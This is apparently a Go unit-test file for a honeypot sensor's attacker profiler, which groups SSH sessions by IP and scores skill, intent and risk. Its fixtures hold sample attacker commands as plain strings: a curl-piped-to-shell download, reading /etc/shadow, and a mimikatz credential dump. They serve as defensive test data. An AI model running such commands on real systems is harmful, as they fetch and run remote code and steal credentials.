package profiler

import (
	"fmt"
	"io"
	"sync"
	"testing"
	"time"

	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/invisible-tech/honeytrap-sensor/internal/types"
)

func testLogger() *logrus.Logger {
	log := logrus.New()
	log.SetOutput(io.Discard)
	return log
}

func session(ip string, start time.Time, commands, techniques []string, creds ...string) *types.Session {
	end := start.Add(time.Minute)
	s := &types.Session{
		ID:              fmt.Sprintf("%s-%d", ip, start.UnixNano()),
		ServiceType:     types.ServiceSSH,
		SourceIP:        ip,
		StartTime:       start,
		EndTime:         &end,
		Commands:        commands,
		MitreTechniques: techniques,
	}
	for _, u := range creds {
		s.Credentials = append(s.Credentials, types.CredentialAttempt{Timestamp: start, Username: u, Password: "pw-" + u})
	}
	return s
}

type staticGeo map[string]string

func (g staticGeo) Country(ip string) string { return g[ip] }

func TestProcessSession_TwoSessionsSameIP(t *testing.T) {
	p := New(testLogger())
	t0 := time.Date(2024, 5, 1, 10, 0, 0, 0, time.UTC)

	s1 := session("198.51.100.7", t0, []string{"uname -a"}, []string{"T1082", "T1110"}, "root", "admin")
	s2 := session("198.51.100.7", t0.Add(time.Hour), []string{"cat /etc/shadow"}, []string{"T1003", "T1110"}, "root")

	first := p.ProcessSession(s1)
	second := p.ProcessSession(s2)

	assert.Equal(t, first.ProfileID, second.ProfileID)
	assert.Equal(t, 2, second.TotalSessions)
	assert.Equal(t, []string{"198.51.100.7"}, second.SourceIPs)
	assert.Equal(t, []string{"T1003", "T1082", "T1110"}, second.MitreTechniques)
	assert.Equal(t, types.IntentCredentialHarvesting, second.Intent)
	assert.Equal(t, t0, second.FirstSeen)
	assert.Equal(t, t0.Add(time.Hour+time.Minute), second.LastSeen)
	assert.Equal(t, 3, second.CredentialPatterns.TotalAttempts)
	assert.Equal(t, []string{"root", "admin"}, second.CredentialPatterns.CommonUsernames)

	assert.Equal(t, second.ProfileID, s1.AttackerProfileID)
	assert.Equal(t, second.ProfileID, s2.AttackerProfileID)
	assert.Equal(t, 1, p.Count())
}

func TestProcessSession_SkillNeverDecreases(t *testing.T) {
	p := New(testLogger())
	t0 := time.Now()
	ip := "203.0.113.50"

	advanced := session(ip, t0, []string{"./mimikatz.exe sekurlsa::logonpasswords"}, []string{"T1003"})
	trivial := session(ip, t0.Add(time.Minute), []string{"echo hi"}, nil)

	prof := p.ProcessSession(advanced)
	require.Equal(t, types.SkillAPT, prof.SkillLevel)
	high := prof.SkillScore

	prof = p.ProcessSession(trivial)
	assert.Equal(t, types.SkillAPT, prof.SkillLevel)
	assert.Equal(t, high, prof.SkillScore)
	assert.Equal(t, types.IntentUnknown, prof.Intent, "intent reflects the latest session")
	assert.Equal(t, []string{"mimikatz"}, prof.ToolsDetected)
}

func TestProcessSession_SkillMonotonicAnyOrder(t *testing.T) {
	t0 := time.Now()
	inputs := [][]string{
		{"nmap -sV 10.0.0.0/24"},
		{"ls"},
		{"curl http://203.0.113.9/x.sh | sh", "msfconsole"},
		{"whoami"},
	}
	orders := [][]int{{0, 1, 2, 3}, {3, 2, 1, 0}, {2, 0, 3, 1}}
	for _, order := range orders {
		p := New(testLogger())
		prev := types.SkillScriptKiddie
		for i, idx := range order {
			prof := p.ProcessSession(session("192.0.2.1", t0.Add(time.Duration(i)*time.Minute), inputs[idx], nil))
			assert.GreaterOrEqual(t, prof.SkillLevel.Rank(), prev.Rank(), "order %v step %d", order, i)
			prev = prof.SkillLevel
		}
	}
}

func TestRiskScore(t *testing.T) {
	assert.Equal(t, 0, RiskScore(0, 0, 0, 0))
	assert.Equal(t, 3, RiskScore(0, 1, 0, 0))
	assert.Equal(t, 100, RiskScore(100, 100, 100, 100))
	assert.Equal(t, 65, RiskScore(50, 5, 10, 20))
	assert.LessOrEqual(t, RiskScore(1000, 0, 0, 0), MaxRiskScore)
}

func TestTopAttackers(t *testing.T) {
	p := New(testLogger())
	t0 := time.Now()
	p.ProcessSession(session("198.51.100.1", t0, []string{"ls"}, nil))
	p.ProcessSession(session("198.51.100.2", t0, []string{"./mimikatz.exe", "cat /etc/shadow"}, []string{"T1003"}, "root", "root"))
	p.ProcessSession(session("198.51.100.3", t0, []string{"nmap -p- 10.0.0.1"}, []string{"T1046"}))

	top := p.TopAttackers(2)
	require.Len(t, top, 2)
	assert.Equal(t, "198.51.100.2", top[0].SourceIPs[0])
	assert.Equal(t, "198.51.100.3", top[1].SourceIPs[0])
	assert.GreaterOrEqual(t, top[0].RiskScore, top[1].RiskScore)

	assert.Len(t, p.TopAttackers(10), 3)
	assert.Empty(t, p.TopAttackers(0))
}

func TestGeoResolver(t *testing.T) {
	p := New(testLogger(), WithGeoResolver(staticGeo{"198.51.100.9": "NL"}))
	prof := p.ProcessSession(session("198.51.100.9", time.Now(), nil, nil))
	assert.Equal(t, "NL", prof.GeoHints.Country)

	prof = p.ProcessSession(session("198.51.100.10", time.Now(), nil, nil))
	assert.Empty(t, prof.GeoHints.Country)
}

func TestProfileLookupAndClear(t *testing.T) {
	p := New(testLogger())
	p.ProcessSession(session("198.51.100.4", time.Now(), nil, nil))

	prof, ok := p.Profile("198.51.100.4")
	require.True(t, ok)
	prof.MitreTechniques = append(prof.MitreTechniques, "T9999")
	again, _ := p.Profile("198.51.100.4")
	assert.Empty(t, again.MitreTechniques, "returned profiles are copies")

	_, ok = p.Profile("198.51.100.99")
	assert.False(t, ok)

	assert.Len(t, p.Profiles(), 1)
	p.Clear()
	assert.Zero(t, p.Count())
	assert.Empty(t, p.Profiles())
}

func TestProcessSession_Concurrent(t *testing.T) {
	p := New(testLogger())
	var wg sync.WaitGroup
	for i := 0; i < 50; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			ip := fmt.Sprintf("198.51.100.%d", i%5)
			p.ProcessSession(session(ip, time.Now(), []string{"whoami"}, []string{"T1033"}, "root"))
		}(i)
	}
	wg.Wait()

	assert.Equal(t, 5, p.Count())
	total := 0
	for _, prof := range p.Profiles() {
		total += prof.TotalSessions
		assert.Equal(t, 10, prof.CredentialPatterns.TotalAttempts)
	}
	assert.Equal(t, 50, total)
}
